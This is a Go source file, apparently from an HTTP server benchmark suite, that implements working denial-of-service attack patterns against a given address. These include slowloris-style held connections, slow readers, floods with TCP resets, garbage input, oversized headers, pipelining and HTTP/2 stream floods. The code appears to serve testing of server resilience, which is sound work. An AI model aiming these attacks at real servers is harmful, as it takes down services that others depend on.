package attack

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/myriad-go/myriad/bench/proc"
)

// Main is the process.
func Main() {
	if err := run(os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func run(in io.Reader, out io.Writer) error {
	if _, err := proc.RaiseFiles(); err != nil {
		return err
	}
	if err := giveWay(); err != nil {
		return err
	}
	lines := bufio.NewReader(in)
	var spec Spec
	if err := json.NewDecoder(lines).Decode(&spec); err != nil {
		return fmt.Errorf("spec: %w", err)
	}
	parts, ok := mixes[spec.Kind]
	if !ok {
		return fmt.Errorf("there is no attack %q", spec.Kind)
	}
	for _, p := range parts {
		if err := p.begin(spec.Addr); err != nil {
			return err
		}
	}
	if _, err := fmt.Fprintln(out, "attacking"); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, lines)
	return err
}

// giveWay lowers the priority of all threads. A call for the process would change one thread only.
// So the process becomes its own process group, and the call for the group reaches the runtime's
// threads and those that they start.
func giveWay() error {
	if err := unix.Setpgid(0, 0); err != nil {
		return fmt.Errorf("setpgid: %w", err)
	}
	if err := unix.Setpriority(unix.PRIO_PGRP, 0, 19); err != nil {
		return fmt.Errorf("setpriority: %w", err)
	}
	return nil
}

// A part is one way to attack: on conns connections that stay, or on rate a second that go.
type part struct {
	conns int
	rate  int
	first string        // sent at once
	then  string        // sent then, once each
	each  time.Duration // 0: never
	read  int           // bytes read, once each; of one that goes before it is reset

	next  func(round uint32) string // nil; else what is sent instead of then
	drain bool                      // all is read
}

func request(method, path, more string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\n" + more
}

// The parts that mixes are made of. Few do not read, because the kernel, which all share, keeps up
// to a megabyte for each, and starves all clients at its limit.
var (
	silent = part{conns: 500}
	heads  = part{conns: 500, first: request("GET", "/", ""), then: "X", each: time.Second}
	bodies = part{conns: 500, first: request("POST", Upload, "Content-Length: 1000000\r\n\r\n"), then: "x",
		each: time.Second}
	readers   = part{conns: 100, first: request("GET", Large, "\r\n"), read: 1, each: time.Second}
	visits    = part{rate: 200}
	resets    = part{rate: 100, first: request("GET", Large, "\r\n"), read: 1000}
	garbage   = part{rate: 100, first: strings.Repeat("\x00\xffgarbage\r\n", 1000)}
	endless   = part{rate: 10, first: request("GET", "/", strings.Repeat("A: "+strings.Repeat("x", 8000)+"\r\n", 150))}
	pipelines = part{conns: 50, first: strings.Repeat(request("GET", "/plaintext", "\r\n"), 1000)}
	unread    = part{conns: 50, first: request("GET", Large, "\r\n")}
)

var mixes = map[Kind][]part{
	Slow:      {silent, heads, bodies, readers},
	Flood:     {visits, resets, garbage, endless, pipelines, unread},
	Heads:     {silent, heads},
	Bodies:    {bodies},
	Readers:   {readers},
	Resets:    {visits, resets},
	Garbage:   {garbage, endless},
	Pipelines: {pipelines, unread},
}

// Those of HTTP/2 are a kind each, of ten connections, and fewer in a mix.
func init() {
	for _, p := range slices.Concat(floods, costly) {
		mixes[Streams] = append(mixes[Streams], p.muxed(2))
		mixes[p.kind] = []part{p.muxed(10)}
	}
	for _, p := range held {
		mixes[Held] = append(mixes[Held], p.muxed(10))
		mixes[p.kind] = []part{p.muxed(10)}
	}
}

func (p part2) muxed(conns int) part {
	return part{conns: conns, first: p.first, next: p.next, each: p.each, drain: true}
}

// dialer makes connections with small receive buffers. Otherwise the server would first send
// megabytes to a peer that does not read.
var dialer = net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
	var failed error
	err := c.Control(func(fd uintptr) { failed = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<10) })
	return errors.Join(err, failed)
}}

// begin opens the connections that stay, or starts those that go.
func (p part) begin(addr string) error {
	for range p.conns {
		c, err := dialer.Dial("tcp", addr)
		if err != nil {
			return err
		}
		go p.stay(c)
	}
	if p.rate > 0 {
		go p.come(addr)
	}
	return nil
}

// stay attacks until the server has had enough, and then again.
func (p part) stay(c net.Conn) {
	addr := c.RemoteAddr().String()
	for {
		p.hold(c)
		_ = c.Close()
		var err error
		for c, err = dialer.Dial("tcp", addr); err != nil; c, err = dialer.Dial("tcp", addr) {
			time.Sleep(time.Second)
		}
	}
}

// hold returns when the connection has ended.
func (p part) hold(c net.Conn) {
	go func() { _, _ = io.WriteString(c, p.first) }() // a server that does not read takes only a part
	if p.each == 0 {
		select {} // the peer neither sends nor reads from here on
	}
	if p.drain {
		go func() { _, _ = io.Copy(io.Discard, c); _ = c.Close() }()
	}
	one := make([]byte, max(p.read, 1))
	round := uint32(0)
	for range time.Tick(p.each) {
		if p.read > 0 {
			if _, err := c.Read(one); err != nil {
				return
			}
			continue
		}
		piece := p.then
		if p.next != nil {
			piece = p.next(round)
			round++
		}
		if _, err := io.WriteString(c, piece); err != nil {
			return
		}
	}
}

func (p part) come(addr string) {
	for range time.Tick(time.Second / time.Duration(p.rate)) {
		go func() {
			c, err := dialer.Dial("tcp", addr)
			if err != nil {
				return
			}
			_ = c.SetDeadline(time.Now().Add(time.Second))
			_, _ = io.WriteString(c, p.first)
			_, _ = io.CopyN(io.Discard, c, int64(p.read))
			_ = c.(*net.TCPConn).SetLinger(0) // a reset
			_ = c.Close()
		}()
	}
}
